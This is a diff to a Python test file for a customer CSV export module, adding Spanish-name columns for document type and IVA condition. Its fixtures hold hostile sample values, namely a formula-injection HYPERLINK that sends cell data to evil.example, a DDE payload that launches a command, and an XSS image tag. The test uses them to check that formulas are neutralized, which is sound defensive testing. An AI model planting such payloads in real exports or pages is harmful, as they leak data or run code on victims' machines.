@@ -16,6 +16,7 @@ from blueprints.customers.csv_io import (
     RowProblem,
     decode_csv,
     detect_delimiter,
+    export_header,
     export_rows,
     neutralize,
     read_csv,
@@ -471,11 +472,12 @@ XSS = CustomerRow(96, "30123456", "<img src=x onerror=alert(1)>", 5, notes='a;b\
 
 
 def test_export_format() -> None:
+    """Each code (what the import reads) is followed by its name in Spanish (for people)."""
     text = "".join(export_rows([HOSTILE, XSS]))
-    header = ";".join(column.header for column in COLUMNS)
+    header = ";".join(export_header())
     assert header == (
-        "tipo_documento;numero_documento;razon_social;condicion_iva;emails;domicilio;telefono;"
-        "notas;plazo_pago_dias"
+        "tipo_documento;tipo_documento_nombre;numero_documento;razon_social;condicion_iva;"
+        "condicion_iva_nombre;emails;domicilio;telefono;notas;plazo_pago_dias"
     )
     assert text.startswith("\ufeff" + header + "\r\n")
     assert text.endswith('"a;b\nc ""d""";\r\n')
@@ -487,9 +489,11 @@ def test_export_neutralizes_formulas_and_leaves_html_alone() -> None:
     assert header[0] == "tipo_documento"
     assert hostile == [
         "80",
+        "CUIT",
         "30712345671",
         '\'=HYPERLINK("http://evil.example/?d="&A1,"Ver")',
         "1",
+        "IVA Responsable Inscripto",
         "pagos@acme.com.ar, admin@acme.com.ar",
         "'@SUM(1+1)*cmd|' /C calc'!A0",
         "'+54 11 4444-5555",
@@ -498,9 +502,11 @@ def test_export_neutralizes_formulas_and_leaves_html_alone() -> None:
     ]
     assert xss == [
         "96",
+        "DNI",
         "30123456",
         "<img src=x onerror=alert(1)>",
         "5",
+        "Consumidor Final",
         "",
         "",
         "",
@@ -513,7 +519,7 @@ def test_export_chunks() -> None:
     customers = [CustomerData(96, str(10_000_000 + n), f"C{n}", 5) for n in range(1201)]
     chunks = list(export_rows(customers))
     assert [chunk.count("\r\n") for chunk in chunks] == [1, 500, 500, 201]
-    assert list(export_rows([])) == ["\ufeff" + ";".join(c.header for c in COLUMNS) + "\r\n"]
+    assert list(export_rows([])) == ["\ufeff" + ";".join(export_header()) + "\r\n"]
 
 
 def round_trip(customers: list[CustomerRow] | list[CustomerData]) -> ImportPlan:
